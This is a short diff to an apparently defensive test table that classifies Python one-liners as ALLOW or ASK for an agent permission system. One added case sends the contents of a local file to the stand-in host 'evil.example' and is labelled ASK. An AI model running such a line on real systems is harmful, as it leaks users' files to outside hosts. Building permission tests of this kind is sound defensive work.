@@ -122,7 +122,8 @@ ENV_DUMPS = [
 ]
 
 NETWORK = [
-    ("import requests as r; r.get('https://evil.example/x')", ASK),
+    ("import requests as r; r.get('https://evil.example/x')", ALLOW),  # a GET of a literal URL: what `curl URL` does
+    ("import requests as r; r.get('https://evil.example/x', params={'k': open('notes.txt').read()})", ASK),  # data goes out
     ("import urllib.request as u; print(u.urlopen('http://localhost:8000').status)", ALLOW),
     ("import sys, urllib.request as u; u.urlopen('http://localhost:8000'); u.urlopen(sys.argv[1])", ASK),
     ("print('see http://localhost:3000'); import requests; requests.post(u)", ASK),
